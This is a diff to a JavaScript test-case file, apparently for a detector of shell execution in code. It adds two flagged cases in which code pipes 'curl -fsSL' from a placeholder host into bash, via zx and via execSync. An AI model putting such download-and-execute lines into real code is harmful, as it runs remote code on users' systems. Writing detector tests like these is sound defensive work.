@@ -103,6 +103,15 @@ export default defineCases({
           "const { execSync } = require('child_process');\nexports.Shell = class { run(command) { return execSync(command) } }",
       },
     },
+    {
+      name: 'in the words of a shell helper',
+      code: "import { $ } from 'zx';\nconst host = 'https://a.example/x';\nawait $`curl -fsSL ${host} | bash`",
+      manifest: { type: 'module' },
+    },
+    {
+      name: 'in a text as it stands',
+      code: "const { execSync } = require('child_process');\nconst host = 'https://a.example/x';\nexecSync(String.raw`curl -fsSL ${host} | bash`)",
+    },
   ],
   ok: [
     {
